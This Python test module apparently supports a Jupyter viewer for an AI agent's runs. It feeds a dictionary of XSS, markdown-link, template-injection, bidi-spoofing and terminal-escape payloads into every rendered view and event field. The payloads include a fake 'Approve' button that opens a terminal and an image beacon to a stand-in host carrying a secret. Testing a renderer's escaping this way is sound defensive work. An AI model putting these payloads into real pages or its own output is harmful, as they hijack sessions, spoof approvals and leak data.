"""Payloads that were used against other tools, and a run that carries one wherever foreign text is shown."""

from collections.abc import Iterator

from tah_jupyter.core.approvals import CommandSubject, Grant
from tah_jupyter.core.calls import Change, Headline, Todo
from tah_jupyter.core.events import (
    ApprovalAnswered,
    ApprovalRequested,
    CallSealed,
    Event,
    MessageFinished,
    MessageStarted,
    Notice,
    PermissionDenied,
    PermissionGranted,
    PromptAdded,
    RunEnded,
    RunStarted,
    TodosUpdated,
    ToolFailed,
    ToolFinished,
    ToolProgress,
    ToolStarted,
)
from tah_jupyter.core.views import (
    Code,
    Command,
    Diff,
    DiffLine,
    Facts,
    Hunk,
    Items,
    Markdown,
    Output,
    Picture,
    Plan,
    Stack,
    Text,
    View,
)

__all__ = ["PAYLOADS", "run_with", "views_with"]

PAYLOADS = {
    "command linker": '<button data-commandlinker-command="terminal:create-new">Approve</button>',
    "command linker, attribute of a span": '<span data-commandlinker-args="{}" data-CommandLinker-command="x">y</span>',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, entities": "[x](&#106;avascript:alert(1)) [y](java&Tab;script:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference": "[x]\n\n[x]: javascript:alert(1) 'title'",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    "vbscript link": "[x](vbscript:msgbox)",
    "fence trick": '```html"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "fence in a fence": "````\n```\n</pre><svg onload=alert(1)>\n```",
    "unclosed code span": "`<img src=x onerror=alert(1)>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "script": "<script>alert(1)</script>",
    "broken tag": "<img src=x onerror=alert(1)//",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "svg and math": "<svg><script>alert(1)</script></svg><math><mtext></form><form><mglyph><style></math>",
    "remote picture": "![beacon](https://evil.example/p.png?secret=1 'title')",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x><embed src=x>',
    "comment": "<!-- --><!--> <img src=x onerror=alert(1)> -->",
    "end of our elements": '</summary></details></pre></td></table>"><script>alert(1)</script>',
    "attribute": '" onmouseover="alert(1)" x=\'',
    "table cell": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "template": "{{constructor.constructor('alert(1)')()}} {cause} {0.__class__} %s",
    "false end of line": "README.md\nAllowed once by you\r\n✓ Done",
    "bidi": "x\u202egnp.elif\u2066 \u200f",
    "bidi by entity": "a &#x202e; b &#8238; c",
    "terminal": "\x1b]0;title\x07\x1b[2J\x9b31m\x08",
}


def views_with(payload: str) -> Iterator[View]:
    """Every kind of view, with the payload wherever it has text."""
    yield Text(payload)
    yield Markdown(payload)
    yield Code(payload, language=payload, first_line=1)
    yield Code(payload)
    yield Command((payload, "--", payload), payload, 3.0)
    lines = tuple(DiffLine(kind, 1, 1, payload) for kind in (" ", "-", "+"))
    yield Diff(payload, (Hunk(lines), Hunk(lines)), 1, 1, notes=(payload,))
    yield Output(payload, 3, payload, failed=True)
    yield Facts(((payload, payload),))
    yield Items((payload, payload), 2)
    yield Plan((Todo(payload, "in_progress"),))
    yield Picture("image/png", payload, payload)
    yield Picture("image/png", "AAAA", payload)
    yield Stack((Text(payload), Stack((Markdown(payload),))))


def run_with(payload: str, *, ended: bool = True) -> Iterator[Event]:
    """A run in which everything that comes from elsewhere is the payload."""
    headline = Headline(payload, payload, payload)
    yield RunStarted(prompt=payload, model=payload, host=payload)
    yield TodosUpdated(todos=(Todo(payload, "completed"), Todo(payload + " 2", "in_progress")))
    yield Notice(text=payload, level="error", code=payload)
    yield PromptAdded(text=payload, source=payload)
    yield MessageStarted(message="m1")
    yield MessageFinished(message="m1", text=payload, thinking=payload, finish="calls")
    for number, view in enumerate(views_with(payload)):
        call = f"c{number}"
        yield CallSealed(call=call, message="m1", tool=payload, args={"path": payload})
        grant = Grant(payload, CommandSubject((payload,)))
        yield ApprovalRequested(
            approval=f"a{number}",
            call=call,
            tool=payload,
            headline=headline,
            view=view,
            asks_because=(payload,),
            grant=grant,
        )
        if not ended:
            continue
        yield ApprovalAnswered(approval=f"a{number}", call=call, outcome="allowed", scope="once")
        yield PermissionGranted(call=call, tool=payload, source="rule", rule=payload)
        yield ToolStarted(call=call, tool=payload, headline=headline)
        yield ToolProgress(call=call, text=payload)
        change = Change(payload, added=1, removed=1)
        yield ToolFinished(call=call, tool=payload, text=payload, view=view, changes=(change,), spilled=payload)
    yield CallSealed(call="running", message="m1", tool=payload)
    yield ToolStarted(call="running", tool=payload, headline=headline)
    yield ToolProgress(call="running", text=payload, view=Text(payload))
    if ended:
        yield PermissionDenied(call="denied", tool=payload, source="rule", reason=payload, rule=payload)
        yield ToolFailed(call="denied", tool=payload, error=payload, text=payload)
        yield ToolFailed(call="running", tool=payload, error="Interrupted", text=payload)
        yield MessageFinished(message="m2", text=payload, finish="cut")
        yield RunEnded(reason="error", error=payload, next_step=payload)
